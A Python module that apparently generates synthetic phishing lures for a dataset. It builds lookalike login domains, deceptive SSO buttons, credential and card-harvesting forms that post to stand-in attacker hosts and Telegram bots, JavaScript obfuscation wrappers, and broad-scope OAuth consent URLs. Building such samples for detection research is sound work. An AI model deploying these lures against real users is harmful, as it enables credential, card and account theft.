
"""Lure building blocks (SSO buttons, credential/card forms, obfuscation, OAuth URLs) and their
legitimate look-alikes. Used inside posts and landing pages."""

from __future__ import annotations

import base64
import random
from urllib.parse import quote, urlencode

from .common import esc, rand_token, short_link

__all__ = [
    "BROAD_SCOPES",
    "COLLECTORS",
    "LOOKALIKE",
    "NARROW_SCOPES",
    "OBFUSCATIONS",
    "PROVIDERS",
    "card_form",
    "collector_action",
    "credential_form",
    "lookalike_url",
    "oauth_url",
    "obfuscate",
    "sso_buttons",
]

PROVIDERS = ("Google", "Facebook", "Apple", "Microsoft")

# Hosts that imitate a provider: typo, homoglyph, subdomain-prefix and hosted-subdomain tricks.
LOOKALIKE: dict[str, tuple[str, ...]] = {
    "Google": (
        "accounts-google.com.verify-id.xyz",
        "accounts.goog1e-auth.com",
        "google-login.stream-access.top",
        "accounts.google.com-signin.session-check.info",
        "gmail-secure.verify-session.click",
        "accounts-google-com.web.app",
    ),
    "Facebook": (
        "faceb00k-login.com",
        "facebook-auth.watch-hd.live",
        "fb-verify-age.com",
        "m.facebook.com-login.site",
        "xn--fcebook-8va.com",
        "facebook.com.login-secure.cfd",
    ),
    "Apple": (
        "appleid.apple.com-secure-login.help",
        "apple-id-verify.support-icloud.top",
        "appleid-apple.sign-in.icu",
    ),
    "Microsoft": (
        "rnicrosoftonline.com",
        "login-microsoftonline.com.auth-session.top",
        "microsoft-365-login.web.app",
        "0utlook-live.com",
        "login.micros0ftonline.net",
    ),
    "Tumblr": ("tumblr-login.help", "www.tumblr.com.account-verify.support", "tumbIr.com"),
    "WordPress.com": (
        "wordpress-com.login-verify.xyz",
        "wordpress.com-security.check-session.site",
    ),
}

COLLECTORS = (
    "/gate.php",
    "/next.php",
    "/login.php",
    "/auth/post.php",
    "/save.php",
    "https://{evil}/gate.php",
    "https://api.telegram.org/bot{bot}/sendMessage",
    "https://formspree.io/f/{fs}",
    "https://getform.io/f/{fs}",
    "https://submit-form.com/{fs}",
    "https://script.google.com/macros/s/AKfycb{gs}/exec",
)
EVIL_HOSTS = (
    "panel-stats.ru",
    "cdn-verify.top",
    "hd-player-auth.xyz",
    "log.secure-access.cyou",
    "data-sync.icu",
)

_LABELS = {
    "en": ("Continue with {p}", "Sign in with {p}", "Log in with {p}"),
    "fr": ("Continuer avec {p}", "Se connecter avec {p}"),
    "es": ("Continuar con {p}", "Iniciar sesión con {p}"),
    "de": ("Weiter mit {p}", "Mit {p} anmelden"),
    "pt": ("Continuar com {p}", "Entrar com {p}"),
    "id": ("Lanjutkan dengan {p}", "Masuk dengan {p}"),
    "it": ("Continua con {p}", "Accedi con {p}"),
}


def _bot(rng: random.Random) -> str:
    return f"{rng.randint(5 * 10**9, 8 * 10**9)}:AA{rand_token(rng, 33)}"


def collector_action(rng: random.Random) -> str:
    """Where a lure form sends what it collects."""
    raw = rng.choice(COLLECTORS)
    return raw.format(
        evil=rng.choice(EVIL_HOSTS),
        bot=_bot(rng),
        fs=rand_token(rng, 8).lower(),
        gs=rand_token(rng, 40),
    )


def lookalike_url(rng: random.Random, provider: str) -> str:
    """A login URL on a host imitating `provider`."""
    host = rng.choice(LOOKALIKE[provider])
    path = rng.choice(
        ("/login", "/signin/v2/identifier", "/oauth/authorize", "/common/login", "/auth", "/")
    )
    return f"https://{host}{path}?continue={rand_token(rng, 12)}"


def sso_buttons(
    rng: random.Random, lang: str, providers: list[str], target: str, host: str = ""
) -> str:
    """Provider-named buttons whose targets are NOT the provider
    (lookalike/same-host/shortener/foreign)."""
    labels = _LABELS.get(lang, _LABELS["en"])
    out = []
    for prov in providers:
        if target == "lookalike":
            href = lookalike_url(rng, prov)
        elif target == "samehost":
            href = f"/auth/{prov.lower()}.php?step=1&amp;r={rand_token(rng, 8)}"
        elif target == "shortener":
            href = short_link(rng)
        else:
            href = f"https://{rng.choice(EVIL_HOSTS)}/{prov.lower()}/login?s={rand_token(rng, 10)}"
        label = esc(rng.choice(labels).format(p=prov))
        out.append(
            f'<a class="sso-btn sso-{prov.lower()}" href="{href}"><span class="ico ico-{prov.lower()}"></span>{label}</a>'
        )
    return '<div class="sso-buttons">\n' + "\n".join(out) + "\n</div>"


def credential_form(rng: random.Random, action: str, provider: str = "", lang: str = "en") -> str:
    """An email + password form posting to `action`."""
    user = {
        "en": "Email or phone",
        "fr": "Adresse e-mail",
        "es": "Correo electrónico",
        "de": "E-Mail-Adresse",
        "pt": "E-mail ou telefone",
        "id": "Email atau nomor HP",
        "it": "Indirizzo email",
    }.get(lang, "Email")
    pw = {
        "en": "Password",
        "fr": "Mot de passe",
        "es": "Contraseña",
        "de": "Passwort",
        "pt": "Senha",
        "id": "Kata sandi",
        "it": "Password",
    }.get(lang, "Password")
    brand = (
        f'<div class="brand brand-{provider.lower()}">{esc(provider)}</div>' if provider else ""
    )
    hidden = ""
    if "telegram" in action:
        hidden = (
            f'<input type="hidden" name="chat_id" value="-100{rng.randint(10**9, 9 * 10**9)}">'
        )
    return (
        f'<form class="login-form" method="post" action="{esc(action)}">{brand}{hidden}\n'
        f'<input type="email" name="{rng.choice(("email", "login", "u", "identifier"))}" placeholder="{esc(user)}" autocomplete="username">\n'
        f'<input type="password" name="{rng.choice(("password", "pass", "p", "pwd"))}" placeholder="{esc(pw)}" autocomplete="current-password">\n'
        f'<button type="submit">{esc(rng.choice(("Next", "Sign in", "Log In", "Continue", "Verify")))}</button>\n</form>'
    )


def card_form(rng: random.Random, action: str, lang: str = "en") -> str:
    """A 'free account' form that asks for card details."""
    head = {
        "en": "Create your FREE account",
        "fr": "Créez votre compte GRATUIT",
        "es": "Crea tu cuenta GRATIS",
        "de": "Kostenloses Konto erstellen",
        "pt": "Crie sua conta GRÁTIS",
        "id": "Buat akun GRATIS",
        "it": "Crea il tuo account GRATUITO",
    }.get(lang, "Create your FREE account")
    note = {
        "en": "We only verify your card to confirm you are over 18. You will not be charged.",
        "fr": "Votre carte sert uniquement à vérifier votre âge. Aucun débit.",
        "es": "Solo verificamos la tarjeta para confirmar tu edad. No se cobrará nada.",
        "de": "Die Karte dient nur zur Altersprüfung. Es wird nichts abgebucht.",
        "pt": "O cartão é usado só para verificar a idade. Nada será cobrado.",
        "id": "Kartu hanya untuk verifikasi usia. Tidak ada biaya.",
        "it": "La carta serve solo a verificare l'età. Nessun addebito.",
    }.get(lang, "")
    return (
        f'<form class="signup" method="post" action="{esc(action)}"><h3>{esc(head)}</h3>\n'
        '<input type="email" name="email" placeholder="Email">\n<input type="password" name="password" placeholder="Password">\n'
        '<input type="text" name="cc_name" placeholder="Name on card">\n'
        '<input type="text" name="cc_number" inputmode="numeric" autocomplete="cc-number" placeholder="Card number">\n'
        '<input type="text" name="cc_exp" autocomplete="cc-exp" placeholder="MM/YY">\n'
        '<input type="text" name="cvv" autocomplete="cc-csc" maxlength="4" placeholder="CVV">\n'
        f'<p class="small">{esc(note)}</p><button type="submit">Start watching</button>\n</form>'
    )


# obfuscation
def _js_str(text: str) -> str:
    return (
        text.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n").replace("</", "<\\/")
    )


def _atob(markup: str, rng: random.Random) -> str:
    b64 = base64.b64encode(markup.encode()).decode()
    return f"document.write(atob('{b64}'));"


def _unescape(markup: str, rng: random.Random) -> str:
    enc = "".join(f"%{b:02X}" for b in markup.encode())
    return f'document.write(unescape("{enc}"));'


def _charcode(markup: str, rng: random.Random) -> str:
    codes = ",".join(str(ord(ch)) for ch in markup)
    target = rng.choice(("document.body", "document.getElementById('player-wrap')"))
    return f"var h=String.fromCharCode({codes});\n{target}.insertAdjacentHTML('beforeend', h);"


def _eval_atob(markup: str, rng: random.Random) -> str:
    inner = f"document.write('{_js_str(markup)}');"
    return f"eval(atob('{base64.b64encode(inner.encode()).decode()}'));"


def _hex_escape(markup: str, rng: random.Random) -> str:
    enc = "".join(f"\\x{b:02x}" for b in markup.encode())
    return f"var s='{enc}';\ndocument.getElementById('app').innerHTML = s;"


def _uri_atob(markup: str, rng: random.Random) -> str:
    b64 = base64.b64encode(quote(markup, safe="").encode()).decode()
    return f"document.write(decodeURIComponent(atob('{b64}')));"


OBFUSCATIONS = {
    "atob": _atob,
    "unescape": _unescape,
    "charcode": _charcode,
    "eval_atob": _eval_atob,
    "hex_escape": _hex_escape,
    "uri_atob": _uri_atob,
}


def obfuscate(markup: str, how: str, rng: random.Random) -> str:
    """A <script> that builds `markup` at runtime, encoded the way `how` names."""
    return f'<script type="text/javascript">\n{OBFUSCATIONS[how](markup, rng)}\n</script>'


# OAuth
BROAD_SCOPES = {
    "Google": (
        "https://mail.google.com/",
        "https://www.googleapis.com/auth/contacts.readonly",
        "https://www.googleapis.com/auth/drive",
        "https://www.googleapis.com/auth/gmail.send",
    ),
    "Microsoft": (
        "offline_access",
        "Mail.Read",
        "Mail.Send",
        "Contacts.Read",
        "Files.ReadWrite.All",
    ),
    "Facebook": (
        "email",
        "user_friends",
        "user_posts",
        "pages_manage_posts",
        "pages_read_engagement",
    ),
}
NARROW_SCOPES = {
    "Google": ("openid", "email", "profile"),
    "Microsoft": ("openid", "profile", "email", "User.Read"),
    "Facebook": ("public_profile", "email"),
}


def oauth_url(rng: random.Random, provider: str, redirect: str, broad: bool) -> str:
    """A real provider authorize URL (HTML-escaped) with broad or narrow scopes."""
    pool = BROAD_SCOPES[provider] if broad else NARROW_SCOPES[provider]
    scopes = list(pool) if not broad else rng.sample(pool, rng.randint(2, len(pool)))
    state = rand_token(rng, 16)
    if provider == "Google":
        if broad and "openid" not in scopes and rng.random() < 0.5:
            scopes = ["openid", "email", *scopes]
        q = {
            "client_id": f"{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com",
            "redirect_uri": redirect,
            "response_type": "code",
            "scope": " ".join(scopes),
            "state": state,
        }
        if broad:
            q |= {"access_type": "offline", "prompt": "consent"}
        return esc("https://accounts.google.com/o/oauth2/v2/auth?" + urlencode(q, quote_via=quote))
    if provider == "Microsoft":
        cid = "-".join(rand_token(rng, n, "0123456789abcdef") for n in (8, 4, 4, 4, 12))
        q = {
            "client_id": cid,
            "response_type": "code",
            "redirect_uri": redirect,
            "response_mode": "query",
            "scope": " ".join(scopes),
            "state": state,
        }
        tenant = rng.choice(("common", "organizations", "consumers"))
        return esc(
            f"https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?"
            + urlencode(q, quote_via=quote)
        )
    q = {
        "client_id": str(rng.randint(10**14, 10**15)),
        "redirect_uri": redirect,
        "state": state,
        "scope": ",".join(scopes),
        "response_type": "code",
    }
    return esc(
        f"https://www.facebook.com/v{rng.randint(17, 21)}.0/dialog/oauth?"
        + urlencode(q, quote_via=quote)
    )
